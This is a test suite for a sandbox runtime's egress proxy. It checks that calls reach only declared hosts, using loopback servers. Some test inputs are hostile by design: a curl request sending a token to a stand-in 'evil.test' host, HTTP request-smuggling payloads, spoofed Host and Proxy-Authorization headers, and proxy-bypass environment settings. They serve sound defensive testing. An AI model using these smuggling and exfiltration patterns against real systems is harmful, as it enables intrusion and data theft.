-- spec/egress_spec.lua — issue 14 through the runtime: a call reaches
-- exactly the hosts its pack, op and bindings declare, through the proxy
-- the runtime owns inside the call's network namespace, with real clients
-- (curl, git) against loopback servers (spec/egress_fixture.lua). Names
-- reach loopback only through the operator's `resolve` pins; nothing here
-- contacts any address but 127.0.0.1 and ::1. Each case runs under both
-- drivers (bwrap cases pending, with the reason, where bubblewrap cannot
-- run).
local hcp = require("hcp")
local core = require("hcp.core")
local S = require("support")
local F = require("egress_fixture")

local q = S.q
local MISSING = F.missing(S)
local NETNS = (function()
  local p = core.probe().netns
  return p and p.available
end)()

local BWRAP_ERR
do
  local rt, err = hcp.create({ driver = "bwrap" })
  if rt then rt:close() else BWRAP_ERR = tostring(err) end
end

-- A raw client for what curl will not send. `raw`: the request on stdin
-- goes to the proxy (127.0.0.1:3128) as it is, and the answer is printed.
-- `raw many N`: the request on N connections at once, then how many were
-- answered 200. `raw drop`: the request, one byte of the answer, and a
-- close with the rest unread (a reset under the proxy's feet).
local RAW_C = [[
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static int dial(void) {
  struct sockaddr_in a; memset(&a, 0, sizeof a);
  a.sin_family = AF_INET; a.sin_port = htons(3128); a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (void *)&a, sizeof a) < 0) { perror("connect"); exit(1); }
  return s;
}
static void put(int s, const char *b, size_t n) {
  for (size_t off = 0; off < n;) { ssize_t r = write(s, b + off, n - off); if (r <= 0) exit(1); off += (size_t)r; }
}
int main(int argc, char **argv) {
  static char req[1 << 16], buf[1 << 16];
  size_t n = 0; ssize_t r;
  while ((r = read(0, req + n, sizeof req - n)) > 0) n += (size_t)r;
  if (argc > 2 && strcmp(argv[1], "many") == 0) {
    int k = atoi(argv[2]), ok = 0, s[256];
    for (int i = 0; i < k && i < 256; i++) { s[i] = dial(); put(s[i], req, n); }
    for (int i = 0; i < k && i < 256; i++) {
      struct pollfd p = { s[i], POLLIN, 0 };
      size_t got = 0;
      while (poll(&p, 1, 60000) > 0 && (r = read(s[i], buf + got, sizeof buf - got)) > 0) got += (size_t)r;
      if (got > 12 && memcmp(buf, "HTTP/1.0 200", 12) == 0) ok++;
      close(s[i]);
    }
    printf("%d\n", ok);
    return 0;
  }
  int s = dial();
  put(s, req, n);
  struct pollfd p = { s, POLLIN, 0 };
  if (argc > 1 && strcmp(argv[1], "drop") == 0) {
    if (poll(&p, 1, 10000) > 0 && read(s, buf, 1) == 1) printf("dropped\n");
    return 0;
  }
  while (poll(&p, 1, 10000) > 0 && (r = read(s, buf, sizeof buf)) > 0) fwrite(buf, 1, (size_t)r, stdout);
  return 0;
}
]]

local W -- the loopback world
local H4, H6, S4, S6
local RESOLVE = { ["api.test"] = "127.0.0.1", ["api6.test"] = "::1", ["other.test"] = "127.0.0.1",
  ["evil.test"] = "127.0.0.1", ["auth.test"] = "127.0.0.1" }
for i = 1, 8 do RESOLVE["h" .. i .. ".test"] = "127.0.0.1" end

local rts = {}
local function runtime(driver, packs, opts, parent)
  parent = parent or S.tmpdir("epacks-")
  for _, m in ipairs(packs) do
    local root = S.pack(m, parent)
    assert(os.execute(string.format("cp %s %s/cert.pem", q(W.cert), q(root))))
  end
  local o = { pack_dirs = { parent }, driver = driver, resolve = RESOLVE, state_dir = S.tmpdir("estate-") }
  for k, v in pairs(opts or {}) do o[k] = v end
  local rt = assert(hcp.create(o))
  rts[#rts + 1] = rt
  return rt
end

local function curl_pack(name, extra)
  local m = S.manifest(name, "curl", extra)
  m.wrap.timeout_ms = 30000
  return m
end

-- The egress entry for host (and method), or nil.
local function entry(res, host, method)
  for _, e in ipairs(res.egress or {}) do
    if e.host == host and (method == nil or e.method == method) then return e end
  end
  return nil
end

local function seen(pattern)
  return F.requests(S, W):find(pattern) ~= nil
end

-- `needs`: host features beyond these (S.lacks), checked at definition time
local function each_driver(name, fn, needs)
  local lacks = needs and S.lacks(needs)
  for _, driver in ipairs({ "local", "bwrap" }) do
    it(name .. " [" .. driver .. "]", function()
      if lacks then pending(lacks) return end
      if MISSING then pending(MISSING) return end
      if not NETNS then pending("this host cannot make a network namespace") return end
      if driver == "bwrap" and BWRAP_ERR then pending("bwrap unavailable: " .. BWRAP_ERR) return end
      fn(driver)
    end)
  end
end

describe("egress through the call's proxy", function()
  setup(function()
    if MISSING or not NETNS then return end
    W = F.start(S, 4 << 20)
    H4, H6, S4, S6 = table.unpack(W.ports)
  end)
  teardown(function()
    for _, rt in ipairs(rts) do rt:close() end
    if W then W.stop() end
  end)

  each_driver("curl reaches declared hosts over HTTP and HTTPS, on 127.0.0.1 and ::1, by name and by literal", function(driver)
    local rt = runtime(driver, { curl_pack("c", { wrap = { egress = { "api.test:" .. H4, "api.test:" .. S4,
      "api6.test:" .. H6, "api6.test:" .. S6, "127.0.0.1:" .. H4, "[::1]:" .. H6 } } }) })
    local res = rt:call({ pack = "c", args = { "-sS", "--cacert", "cert.pem",
      "http://api.test:" .. H4 .. "/index.html", "https://api.test:" .. S4 .. "/index.html",
      "http://api6.test:" .. H6 .. "/index.html", "https://api6.test:" .. S6 .. "/index.html",
      "http://127.0.0.1:" .. H4 .. "/index.html", "http://[::1]:" .. H6 .. "/index.html" } })
    assert.is_true(res.ok, tostring(res.error) .. "\n" .. res.stderr)
    assert.equal(F.CONTENT:rep(6), res.stdout)
    assert.same({}, (function()
      local bad = {}
      for _, e in ipairs(res.egress) do if not e.allowed or e.error then bad[#bad + 1] = e end end
      return bad
    end)())
    local plain, tls = entry(res, "api.test:" .. H4, "GET"), entry(res, "api.test:" .. S4, "CONNECT")
    assert.equal("/index.html", plain.path)
    assert.is_true(plain.bytes_in > #F.CONTENT and plain.bytes_out > 0)
    assert.is_true(tls.bytes_in > 1000, "a TLS handshake went through") -- certificate and all
    assert.truthy(entry(res, "api6.test:" .. S6, "CONNECT"))
    assert.truthy(entry(res, "[::1]:" .. H6, "GET"))
    local names = {}
    for _, l in ipairs(res.isolation) do names[l] = true end
    assert.is_true(names.egress and names.netns)
  end)

  each_driver("git clones a repository over HTTP and HTTPS through the proxy", function(driver)
    -- the certificate is the pack's own, named by the manifest ($0)
    local parent = S.tmpdir("epacks-")
    local script = 'git -c http.sslCAInfo="$0" clone -q "$1" out && git -C out log --format=%s'
    local rt = runtime(driver, { S.manifest("g", "sh", { wrap = { args = { "-c", script, parent .. "/g/cert.pem" },
      timeout_ms = 60000, workspace = { mode = "ephemeral" }, egress = { "api.test:" .. H4, "api.test:" .. S4 },
      agent_env = { GIT_TERMINAL_PROMPT = "0" } } }) }, nil, parent)
    for _, url in ipairs({ "http://api.test:" .. H4 .. "/repo.git", "https://api.test:" .. S4 .. "/repo.git" }) do
      local res = rt:call({ pack = "g", args = { url } })
      assert.is_true(res.ok, tostring(res.error) .. "\n" .. res.stderr)
      assert.equal("the commit egress_spec clones\n", res.stdout)
      assert.truthy(entry(res, url:match("^%a+://([^/]+)")), url)
      for _, e in ipairs(res.egress) do assert.is_true(e.allowed, e.host .. " " .. tostring(e.reason)) end
    end
    assert.is_true(seen("GET /repo.git/info/refs"))
  end)

  each_driver("an undeclared host is refused with the reason, recorded, and never contacted", function(driver)
    local rt = runtime(driver, { curl_pack("gh", { wrap = { egress = { "api.test:" .. H4 } } }) })
    local res = rt:call({ pack = "gh", args = { "-sS", "http://evil.test:" .. H4 .. "/stolen?token=s3cr3t" } })
    assert.equal('egress: not declared by pack "gh"\n', res.stdout)
    local e = entry(res, "evil.test:" .. H4)
    assert.same({ false, 'not declared by pack "gh"', "GET", "/stolen?..." }, { e.allowed, e.reason, e.method, e.path })
    assert.is_nil(e.bytes_in)
    res = rt:call({ pack = "gh", args = { "-sS", "-k", "https://evil.test:" .. S4 .. "/" } })
    assert.is_false(res.ok)
    assert.matches("CONNECT tunnel failed, response 403", res.stderr)
    e = entry(res, "evil.test:" .. S4, "CONNECT")
    assert.same({ false, 'not declared by pack "gh"' }, { e.allowed, e.reason })
    assert.is_false(seen("evil%.test"))
  end)

  each_driver("a direct connection that bypasses the proxy fails: the namespace has no route", function(driver)
    local rt = runtime(driver, { curl_pack("d", { wrap = { egress = { "api.test:" .. H4 } } }) })
    for _, url in ipairs({ "http://127.0.0.1:" .. H4 .. "/index.html", "http://[::1]:" .. H6 .. "/index.html",
      "http://192.0.2.1:80/" }) do
      local res = rt:call({ pack = "d", args = { "-sS", "--noproxy", "*", "--connect-timeout", "5", url } })
      assert.is_false(res.ok, url)
      assert.matches("Failed to connect to .*Couldn't connect to server", res.stderr)
      assert.same({}, res.egress, url) -- the proxy never heard of it
    end
  end)

  each_driver("an op's egress narrows its pack's; the raw CLI keeps the pack's", function(driver)
    local m = curl_pack("n", { wrap = { egress = { "api.test:" .. H4, "other.test:" .. H4 } },
      ops = { fetch = { args = { "-sS", "{url}" }, params = { url = "string" }, egress = { "api.test:" .. H4 } } } })
    local rt = runtime(driver, { m })
    local ok = rt:call({ pack = "n", op = "fetch", params = { url = "http://api.test:" .. H4 .. "/index.html" } })
    assert.equal(F.CONTENT, ok.stdout)
    local no = rt:call({ pack = "n", op = "fetch", params = { url = "http://other.test:" .. H4 .. "/index.html" } })
    assert.equal('egress: not declared by pack "n"\n', no.stdout)
    assert.is_false(entry(no, "other.test:" .. H4).allowed)
    local raw = rt:call({ pack = "n", args = { "-sS", "http://other.test:" .. H4 .. "/index.html" } })
    assert.equal(F.CONTENT, raw.stdout)
  end)

  each_driver("the operator's deny wins over every declaration; allow narrows every pack", function(driver)
    local m = curl_pack("o", { wrap = { egress = { "api.test:" .. H4, "other.test:" .. H4 } } })
    local rt = runtime(driver, { m }, { egress = { deny = { "api.test:" .. H4 } } })
    local res = rt:call({ pack = "o", args = { "-sS", "http://api.test:" .. H4 .. "/deny-me",
      "http://other.test:" .. H4 .. "/index.html" } })
    assert.equal(string.format('egress: denied by the operator (egress.deny "api.test:%d")\n', H4) .. F.CONTENT,
      res.stdout)
    assert.is_false(entry(res, "api.test:" .. H4).allowed)
    assert.is_false(seen("/deny%-me"))
    rt = runtime(driver, { m }, { egress = { allow = { "other.test:" .. H4 } } })
    res = rt:call({ pack = "o", args = { "-sS", "http://api.test:" .. H4 .. "/not-allowed" } })
    assert.equal("egress: not in the operator's egress.allow\n", res.stdout)
    assert.is_false(seen("/not%-allowed"))
  end)

  each_driver("a binding's hosts are reachable only by the ops that use the binding", function(driver)
    local m = curl_pack("b", { bindings = { tok = { family = "http", env = "TOK", hosts = { "auth.test:" .. H4 } } },
      ops = { with = { args = { "-sS", "{url}" }, params = { url = "string" }, bindings = { "tok" } },
        without = { args = { "-sS", "{url}" }, params = { url = "string" } } } })
    local rt = runtime(driver, { m }, { bindings = { tok = function() return "t0ken" end } })
    local url = "http://auth.test:" .. H4 .. "/index.html"
    assert.equal(F.CONTENT, rt:call({ pack = "b", op = "with", params = { url = url } }).stdout)
    local res = rt:call({ pack = "b", op = "without", params = { url = url } })
    assert.equal('egress: not declared by pack "b"\n', res.stdout)
    -- rt:exec mints no binding, so it gets none of their hosts
    res = rt:exec({ bin = "curl", pack = "b", args = { "-sS", url } })
    assert.equal('egress: not declared by pack "b"\n', res.stdout, res.error)
  end)

  each_driver("a name that resolves to loopback is refused unless the address is declared literally", function(driver)
    local rt = runtime(driver, { curl_pack("l", { wrap = { egress = { "localhost:" .. H4, "127.0.0.1:" .. H4 } } }) },
      { resolve = {} })
    local res = rt:call({ pack = "l", args = { "-sS", "http://localhost:" .. H4 .. "/via-dns",
      "http://127.0.0.1:" .. H4 .. "/index.html" } })
    assert.matches('^egress: "localhost" resolves to [%x:.]+, a private or loopback address, which only a literal '
      .. "entry may reach\n", res.stdout)
    assert.matches(F.CONTENT .. "$", res.stdout)
    local e = entry(res, "localhost:" .. H4)
    assert.is_false(e.allowed)
    assert.is_false(seen("/via%-dns"))
    assert.is_true(entry(res, "127.0.0.1:" .. H4).allowed)
  end, { "localhost" })

  each_driver("8 concurrent calls with different allow-lists never see each other's hosts", function(driver)
    local packs, script = {}, "for i in 1 2 3 4 5 6 7 8; do curl -s -o /dev/null -w \"%{http_code} \" "
      .. "http://h$i.test:" .. H4 .. "/index.html; done"
    for i = 1, 8 do
      packs[i] = S.manifest("p" .. i, "sh", { wrap = { args = { "-c", script }, timeout_ms = 60000,
        egress = { "h" .. i .. ".test:" .. H4 } } })
    end
    local rt = runtime(driver, packs)
    local list = {}
    for i = 1, 8 do list[i] = { pack = "p" .. i } end
    local results = rt:call_all(list)
    for i, res in ipairs(results) do
      local want = {}
      for k = 1, 8 do want[k] = k == i and "200" or "403" end
      assert.equal(table.concat(want, " ") .. " ", res.stdout, "p" .. i)
      for k = 1, 8 do
        assert.equal(k == i, entry(res, "h" .. k .. ".test:" .. H4).allowed, "p" .. i .. " h" .. k)
      end
    end
  end)

  each_driver("method and path rules hold for plain HTTP, and refuse what a glob cannot judge", function(driver)
    local m = curl_pack("r", { wrap = { egress = { "GET api.test:" .. H4 .. "/index*", "GET api.test:" .. S4 .. "/x" } } })
    local rt = runtime(driver, { m })
    local base = "http://api.test:" .. H4
    assert.equal(F.CONTENT, rt:call({ pack = "r", args = { "-sS", base .. "/index.html" } }).stdout)
    for _, args in ipairs({ { base .. "/echo" }, { "-X", "POST", base .. "/index.html" },
      { "--path-as-is", base .. "/index.html/../echo" }, { base .. "/index.html/%2e%2e/echo" } }) do
      local a = { "-sS" }
      table.move(args, 1, #args, 2, a)
      local res = rt:call({ pack = "r", args = a })
      assert.matches("^egress: ", res.stdout, 1)
      assert.is_false(res.egress[1].allowed)
    end
    assert.is_false(seen("echo"))
    local res = rt:call({ pack = "r", args = { "-sS", "-k", "https://api.test:" .. S4 .. "/x" } })
    assert.matches('declared by wrap.egress for plain HTTP only', res.egress[1].reason, 1, true)
  end)

  each_driver("a forwarded request goes upstream in origin form, without Proxy-* headers, one per connection", function(driver)
    local raw = assert(S.cc("egress_raw", RAW_C))
    local rt = runtime(driver, { curl_pack("f", { wrap = { egress = { "api.test:" .. H4 } } }),
      S.manifest("raw", raw, { wrap = { egress = { "api.test:" .. H4 }, timeout_ms = 30000 } }) })
    local res = rt:call({ pack = "f", args = { "-sS", "-H", "Proxy-Authorization: Basic c2VjcmV0",
      "-H", "Host: evil.test", "--data-binary", "hello", "http://api.test:" .. H4 .. "/echo" } })
    assert.matches("^POST /echo HTTP/1.1\n", res.stdout)
    assert.matches("\nHost: api.test:" .. H4 .. "\n", res.stdout, 1, true)
    assert.matches("\nConnection: close\n", res.stdout, 1, true)
    assert.matches("\nbody%-bytes: 5\n", res.stdout)
    assert.is_nil(res.stdout:lower():find("proxy-", 1, true))
    -- a chunked body is framed, not cut
    res = rt:call({ pack = "f", args = { "-sS", "-H", "Transfer-Encoding: chunked", "--data-binary", "@-",
      "http://api.test:" .. H4 .. "/echo" }, stdin = ("x"):rep(100000) })
    assert.matches("\nbody%-bytes: 100000\n", res.stdout)
    -- a second request on the same connection never goes upstream (it would
    -- bypass the decision); neither does a body past its length
    res = rt:call({ pack = "raw", stdin = "GET http://api.test:" .. H4 .. "/echo?first HTTP/1.1\r\nHost: api.test\r\n\r\n"
      .. "GET /echo?smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n" })
    assert.matches("^HTTP/1.0 200", res.stdout)
    res = rt:call({ pack = "raw", stdin = "POST http://api.test:" .. H4 .. "/echo?cl HTTP/1.1\r\nContent-Length: 3\r\n\r\n"
      .. "abcGET /echo?smuggled2 HTTP/1.1\r\n\r\n" })
    assert.matches("body%-bytes: 3\n", res.stdout)
    assert.is_true(seen("/echo%?first"))
    assert.is_false(seen("smuggled"))
  end)

  each_driver("what the proxy cannot read is refused with a 400 and recorded", function(driver)
    local raw = assert(S.cc("egress_raw", RAW_C))
    local rt = runtime(driver, { S.manifest("raw", raw, { wrap = { egress = { "api.test:" .. H4 }, timeout_ms = 30000 } }) })
    for req, why in pairs({
      ["GET /index.html HTTP/1.1\r\nHost: api.test\r\n\r\n"] = "not a proxy request",
      ["GET https://api.test:" .. S4 .. "/ HTTP/1.1\r\n\r\n"] = "https:// URL goes through CONNECT",
      ["GET http://api.test:" .. H4 .. "/ HTTP/1.1\nHost: x\n\n"] = "bare LF",
      ["POST http://api.test:" .. H4 .. "/ HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n"] =
        "both Content-Length and Transfer-Encoding",
      ["GET http://user:pw@api.test:" .. H4 .. "/ HTTP/1.1\r\n\r\n"] = "user info",
      ["GET http://api.test:" .. H4 .. "/ HTTP/1.1\r\nX-A : b\r\n\r\n"] = "header name",
      ["GET http://api.test:" .. H4 .. "/ HTTP/1.1\r\nX: " .. ("a"):rep(20000) .. "\r\n\r\n"] = "larger than 16 KiB",
    }) do
      local res = rt:call({ pack = "raw", stdin = req })
      assert.matches("^HTTP/1.1 [45]0%d ", res.stdout, 1)
      assert.matches(why, res.stdout, 1, true)
      assert.equal("(unreadable request)", res.egress[1].host)
      assert.matches(why, res.egress[1].reason, 1, true)
    end
    assert.is_false(seen("user:pw"))
  end)

  each_driver("the child is pointed at its proxy; a call without hosts has none and no egress field", function(driver)
    local env = "echo ${HTTP_PROXY-unset} ${https_proxy-unset} ${ALL_PROXY-unset} [${NO_PROXY-unset}]"
    local rt = runtime(driver, {
      S.manifest("e", "sh", { wrap = { args = { "-c", env }, egress = { "api.test:" .. H4 },
        agent_env = { HTTP_PROXY = "http://evil.test:1", NO_PROXY = "*" } } }),
      S.manifest("none", "sh", { wrap = { args = { "-c", env .. "; curl -sS --connect-timeout 5 "
        .. "http://127.0.0.1:" .. core.EGRESS_PORT .. "/" } } }) })
    local url = "http://127.0.0.1:" .. core.EGRESS_PORT
    local res = rt:call({ pack = "e" })
    assert.equal(string.format("%s %s %s []\n", url, url, url), res.stdout)
    res = rt:call({ pack = "none" })
    assert.matches("^unset unset unset %[unset%]\n", res.stdout)
    assert.matches("Failed to connect", res.stderr, 1, true)
    assert.is_nil(res.egress)
  end)

  each_driver("wrap.network: true needs the operator's word, and then has the host's network and no proxy", function(driver)
    local m = curl_pack("wide", { wrap = { network = true } })
    local res = runtime(driver, { m }):call({ pack = "wide", args = { "-sS", "http://127.0.0.1:" .. H4 .. "/index.html" } })
    assert.equal(126, res.exit)
    assert.matches('hcp.create{ network = "unrestricted" }', res.error, 1, true)
    local rt = runtime(driver, { m }, { network = "unrestricted" })
    res = rt:call({ pack = "wide", args = { "-sS", "--noproxy", "*", "http://127.0.0.1:" .. H4 .. "/unrestricted-ok" } })
    assert.is_true(res.ok, res.stderr)
    assert.is_nil(res.egress)
    assert.is_true(seen("/unrestricted%-ok"))
    for _, l in ipairs(res.isolation) do assert.not_equal("egress", l) end
  end)

  each_driver("the audit log holds each attempt, without the query that may carry a secret", function(driver)
    local log = S.tmpdir("eaudit-") .. "/audit.jsonl"
    local rt = runtime(driver, { curl_pack("au", { wrap = { egress = { "api.test:" .. H4 } } }) }, { audit = log })
    rt:call({ pack = "au", args = { "-sS", "http://api.test:" .. H4 .. "/index.html?key=s3cr3t",
      "http://evil.test:" .. H4 .. "/?key=s3cr3t" } })
    rt:close()
    local text = assert(S.read(log))
    assert.is_nil(text:find("s3cr3t", 1, true))
    local line = require("hcp.json").decode(text:match("[^\n]+"))
    assert.equal(2, #line.egress)
    assert.same({ true, "/index.html?..." }, { line.egress[1].allowed, line.egress[1].path })
    assert.same({ false, 'not declared by pack "au"' }, { line.egress[2].allowed, line.egress[2].reason })
  end)

  each_driver("a flood of connections past the per-call limit is served in turn; a reset mid-download harms nothing", function(driver)
    local raw = assert(S.cc("egress_raw", RAW_C))
    local rt = runtime(driver, { S.manifest("raw", raw, { wrap = { egress = { "api.test:" .. H4 }, timeout_ms = 60000 } }) })
    local get = "GET http://api.test:" .. H4 .. "/index.html HTTP/1.1\r\n\r\n"
    local res = rt:call({ pack = "raw", args = { "many", "48" }, stdin = get })
    assert.equal("48\n", res.stdout, res.stderr)
    assert.equal(48, res.egress[1].count)
    local big = "GET http://api.test:" .. H4 .. "/big.bin HTTP/1.1\r\n\r\n"
    for _ = 1, 3 do
      res = rt:call({ pack = "raw", args = { "drop" }, stdin = big })
      assert.equal("dropped\n", res.stdout, res.stderr)
    end
    -- the runtime is alive (no SIGPIPE), and the next call is served
    assert.equal(F.CONTENT, rt:call({ pack = "raw", stdin = get }).stdout:match("\r\n\r\n(.*)$"))
  end)

  each_driver("each call's proxy and namespace are gone when it ends: no descriptor is left", function(driver)
    local rt = runtime(driver, { curl_pack("fd", { wrap = { egress = { "api.test:" .. H4, "api.test:" .. S4 } } }) })
    local args = { "-sS", "--cacert", "cert.pem", "http://api.test:" .. H4 .. "/index.html",
      "https://api.test:" .. S4 .. "/big.bin", "-o", "/dev/null" }
    -- two calls first: a process makes the base view (one descriptor it
    -- keeps) at its second view, not its first (isolation.lua)
    for _ = 1, 2 do assert.is_true(rt:call({ pack = "fd", args = args }).ok) end
    local before = S.open_fds()
    for _ = 1, 5 do
      local res = rt:call({ pack = "fd", args = args })
      assert.is_true(res.ok, res.stderr)
      assert.is_true(entry(res, "api.test:" .. S4).bytes_in > 4 << 20)
    end
    assert.equal(before, S.open_fds())
  end)

  each_driver("an allowed host that does not answer is a 502, recorded as allowed with the error", function(driver)
    local out = S.sh(core.resolve("python3", F.PATH) .. " -c 'import socket; s=socket.socket(); "
      .. "s.bind((\"127.0.0.1\", 0)); print(s.getsockname()[1])'")
    local port = math.tointeger(tonumber(out:match("%d+")))
    local rt = runtime(driver, { curl_pack("dead", { wrap = { egress = { "127.0.0.1:" .. port } } }) })
    local res = rt:call({ pack = "dead", args = { "-sS", "http://127.0.0.1:" .. port .. "/" } })
    assert.matches("^egress: cannot connect to 127.0.0.1:" .. port .. ": Connection refused\n", res.stdout)
    local e = entry(res, "127.0.0.1:" .. port)
    assert.same({ true, "cannot connect to 127.0.0.1:" .. port .. ": Connection refused" }, { e.allowed, e.error })
  end)

  each_driver("the proxy is not reachable from the host while a call runs", function(driver)
    if S.read("/proc/net/tcp"):find(":0C38 00000000:0000 0A", 1, true) then
      pending("something on this host listens on port 3128 already") return
    end
    local rt = runtime(driver, { S.manifest("slow", "sh", { wrap = { args = { "-c", "sleep 2; echo done" },
      egress = { "api.test:" .. H4 } } }) })
    local h = rt:start({ pack = "slow" })
    local out = S.sh(q(core.resolve("curl", F.PATH)) .. " -sS --noproxy '*' --connect-timeout 2 http://127.0.0.1:"
      .. core.EGRESS_PORT .. "/ 2>&1")
    assert.matches("Failed to connect", out, 1, true)
    assert.equal("done\n", h:wait().stdout)
  end)

  each_driver("an event loop driving rt:pollfd() alone gets every decision and lookup made", function(driver)
    -- in a process of its own, and luv never loaded here: luv loaded twice
    -- in one busted run (its files are insulated) crashes in libuv
    if not package.searchpath("luv", package.cpath) then pending("luv is not installed (Debian lua-luv)") return end
    local parent = S.tmpdir("epacks-")
    local root = S.pack(curl_pack("ev", { wrap = { egress = { "api.test:" .. H4, "localhost:" .. H4 } } }), parent)
    local script = S.write(parent .. "/loop.lua", [=[
      local hcp, uv = require("hcp"), require("luv")
      local dir, driver, port = arg[1], arg[2], arg[3]
      local rt = assert(hcp.create({ pack_dirs = { dir }, driver = driver, resolve = { ["api.test"] = "127.0.0.1" } }))
      local done, n = {}, 0
      for i = 1, 4 do
        rt:start({ pack = "ev", args = { "-sS", "http://api.test:" .. port .. "/index.html",
          "http://localhost:" .. port .. "/x" } }, { on_exit = function(r) done[i], n = r, n + 1 end })
      end
      local poll, guard = uv.new_poll(rt:pollfd()), uv.new_timer()
      guard:start(30000, 0, function() uv.stop() end)
      poll:start("r", function()
        rt:step(0)
        if n == 4 then poll:stop() guard:stop() end
      end)
      uv.run()
      for i = 1, 4 do io.write(done[i] and done[i].stdout or "(none)\n", "--\n") end
    ]=])
    assert(root)
    local env = S.LUA_ENV
    local out, code = S.sh(env .. string.format("%s %s %s %s %d 2>&1", q(S.LUA), q(script), q(parent), driver, H4))
    assert.equal(0, code, out)
    local n = 0
    for part in out:gmatch("(.-)%-%-\n") do
      n = n + 1
      assert.matches("^" .. F.CONTENT .. 'egress: "localhost" resolves to ', part)
    end
    assert.equal(4, n, out)
  end, { "localhost" })

  it("isolation \"minimal\" and native-local still run a call that declares hosts behind its proxy", function()
    if MISSING then pending(MISSING) return end
    if not NETNS then pending("this host cannot make a network namespace") return end
    local m = curl_pack("min", { wrap = { egress = { "api.test:" .. H4 } } })
    for _, opts in ipairs({ { isolation = "minimal" }, { sandbox = false, native_local = true } }) do
      local rt = runtime("local", { m }, opts)
      local res = rt:call({ pack = "min", args = { "-sS", "http://api.test:" .. H4 .. "/index.html",
        "http://evil.test:" .. H4 .. "/minimal-evil" } })
      assert.equal(F.CONTENT .. 'egress: not declared by pack "min"\n', res.stdout, res.stderr)
      local names = {}
      for _, l in ipairs(res.isolation) do names[l] = true end
      assert.is_true(names.netns and names.egress, rt.mode)
    end
    assert.is_false(seen("minimal%-evil"))
  end)
end)

describe("egress for a runtime that is not root (nobody)", function()
  S.it({ "nobody_runs_build", "nobody_userns" }, "the proxy works, and refuses, under both drivers", function()
    if MISSING then pending(MISSING) return end
    local w = F.start(S)
    local dir = assert(core.mkdtemp("/var/tmp", "hcp-egress-"))
    finally(function() w.stop() core.rmtree(dir) end)
    assert(os.execute("chmod 755 " .. q(dir)))
    local pack = S.pack(S.manifest("c", "curl", { wrap = { egress = { "api.test:" .. w.ports[1] } } }), dir)
    assert(os.execute(string.format("chmod -R a+rX %s && chown -R nobody %s", q(dir), q(dir))))
    assert(pack)
    local script = S.write(dir .. "/run.lua", [=[
      local hcp = require("hcp")
      local dir, port = arg[1], arg[2]
      for _, driver in ipairs({ "local", "bwrap" }) do
        local rt, err = hcp.create({ pack_dirs = { dir }, driver = driver, state_dir = dir .. "/state",
          resolve = { ["api.test"] = "127.0.0.1", ["evil.test"] = "127.0.0.1" } })
        if not rt then print(driver .. "_skip=" .. tostring(err):gsub("%s", "_")) goto next end
        local ok = rt:call({ pack = "c", args = { "-sS", "http://api.test:" .. port .. "/index.html" } })
        local no = rt:call({ pack = "c", args = { "-sS", "http://evil.test:" .. port .. "/nobody-evil" } })
        print(driver .. "_ok=" .. tostring(ok.stdout):gsub("%s", "_"))
        print(driver .. "_no=" .. tostring(no.egress and no.egress[1] and no.egress[1].reason):gsub("%s", "_"))
        rt:close()
        ::next::
      end
    ]=])
    local env = S.LUA_ENV
    local out, code = S.sh(env .. string.format("runuser -u nobody -w LUA_PATH,LUA_CPATH -- %s %s %s %d 2>&1",
      q(S.LUA), q(script), q(dir), w.ports[1]))
    assert.equal(0, code, out)
    local r = {}
    for k, v in out:gmatch("([%w_]+)=(%S+)") do r[k] = v end
    for _, driver in ipairs({ "local", "bwrap" }) do
      if not r[driver .. "_skip"] then
        assert.equal(F.CONTENT:gsub("%s", "_"), r[driver .. "_ok"], driver .. ": " .. out)
        assert.equal('not_declared_by_pack_"c"', r[driver .. "_no"], driver .. ": " .. out)
      else
        assert.equal("bwrap", driver, out)
      end
    end
    assert.is_nil(F.requests(S, w):find("nobody-evil", 1, true))
  end)
end)

-- The core's side of the hand-over (src/spawn.c, src/egress_child.c), on
-- every spawn path: the listeners are made in a namespace made for the
-- call, and the proxy holds them before spawn returns.
describe("core.spawn with an egress proxy", function()
  local function spawn_with(netns, extra)
    local eng = assert(core.egress())
    local iso = { netns = netns, egress = eng, pidns = true, caps = true }
    local opts = { path = "/bin/true", argv = { "true" }, cwd = "/", env = {}, isolation = iso }
    for k, v in pairs(extra or {}) do opts[k] = v end
    return eng, opts
  end

  S.it("netns", "refuses a lent or joined network namespace: another call's listener may be there", function()
    local fd_of = core.spawn({ path = "/bin/sleep", argv = { "sleep", "30" }, cwd = "/", env = {}, isolation = { netns = true } })
    local ns = assert(fd_of:nsfd("net"))
    for _, netns in ipairs({ "pool", ns, false }) do
      local eng, opts = spawn_with(netns)
      assert.error_matches(function() core.spawn(opts) end, "egress needs netns = true")
      eng:close()
    end
    ns:close()
    fd_of:kill()
    fd_of:wait()
  end)

  S.it("netns", "holds the child's listeners when spawn returns, also when asked for async, with or without the helper", function()
    for _, extra in ipairs({ {}, { async = true } }) do
      local eng, opts = spawn_with(true, extra)
      local p = assert(core.spawn(opts))
      assert.is_true(eng:listening() >= 1, "listeners")
      local res = p:wait()
      assert.equal(0, res.exit, res.spawn_error)
      eng:close()
    end
    -- and through a fork of the runtime (no helper), in a fresh process
    local code = [[local c = require("hcp.core") local e = assert(c.egress())
      local p = assert(c.spawn({ path = "/bin/true", argv = { "true" }, cwd = "/", env = {},
        isolation = { netns = true, egress = e, pidns = true, caps = true } }))
      io.write(e:listening(), " ", p:wait().exit, " ", tostring(c.spawn_helper()))]]
    local out = S.sh(string.format("HCP_SPAWN_HELPER=none LUA_CPATH=%s %s -e %s 2>&1", q(S.CPATH), S.LUA, q(code)))
    assert.matches("^[12] 0 nil$", out)
  end)
end)
